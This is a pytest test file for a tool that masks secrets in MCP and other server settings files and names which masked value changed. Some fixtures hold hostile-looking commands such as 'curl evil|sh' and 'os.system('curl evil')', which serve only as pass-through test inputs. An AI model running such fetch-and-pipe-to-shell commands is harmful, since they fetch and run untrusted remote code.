import json

import pytest

from satchel.trust.shown_settings import (
    changed_secrets,
    shown_definition,
    shown_settings,
    without_tags,
)

TEXTS = {
    "servers.json": '{"a": {"command": "run", "args": ["--key", "planted"], "n": 1}}',
    "servers.jsonc": '// ours\n{"a": {"command": "run", "env": {"KEY": "planted"},},}',
    "servers.yaml": "a:\n  command: run\n  env: {API_KEY: planted} # ours\n",
    "servers.yml": "# ours\na:\n  url: https://u:planted@h.example/x\n",
    "servers.toml": "[a]\nurl = 'https://h.example'\nheaders = { X-Way = 'planted' }\n",
}


@pytest.mark.parametrize("name", TEXTS)
def test_secrets_of_servers_are_masked_and_a_changed_one_is_named(name):
    before, now = (
        shown_settings(name, text) for text in (TEXTS[name], TEXTS[name].replace("plan", "chan"))
    )
    assert "***" in without_tags(before)
    assert "planted" not in before
    assert before != now
    assert without_tags(before) == without_tags(now)
    assert changed_secrets(before, now).startswith("changed, masked as secret: a.")
    assert changed_secrets(before, before) == ""


def test_what_changed_is_named_by_its_place():
    def text(secret):
        servers = [
            {
                "name": "box",
                "env": {"API_KEY": secret, "MODE": secret},
                "args": ["run", "--token", secret],
                "headers": {"X-Way": secret},
            }
        ]
        return shown_definition({"servers": servers})

    said = changed_secrets(text("one"), text("two"))
    for name in ("env.API_KEY", "args after --token", "headers.X-Way"):
        assert f"servers box.{name}" in said
    assert "MODE" not in said


def test_only_the_secrets_of_servers_are_masked_in_json():
    servers = {"mcpServers": {"a": {"command": "x", "env": {"KEY": "planted"}}}}
    assert json.loads(without_tags(shown_settings("x.json", json.dumps(servers)))) == {
        "mcpServers": {"a": {"command": "x", "env": {"KEY": "***"}}}
    }
    scripts = json.dumps({"url": "x", "scripts": {"auth": "curl evil|sh", "key": "evil"}})
    assert shown_settings("x.json", scripts) == scripts


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("x.json", "import os\n"),
        ("x.json", '{"env": {"K": 1}, "env": {}}'),
        ("x.json", "[" * 9_999),
        ("x.yaml", "import os\nos.system('curl evil')\n"),
        ("x.yaml", "{" * 30_000),
        ("x.toml", "key = run(evil)\n"),
        ("x.py", TEXTS["servers.json"]),
    ],
)
def test_what_is_no_settings_is_shown_as_it_is(name, text):
    assert shown_settings(name, text) == text
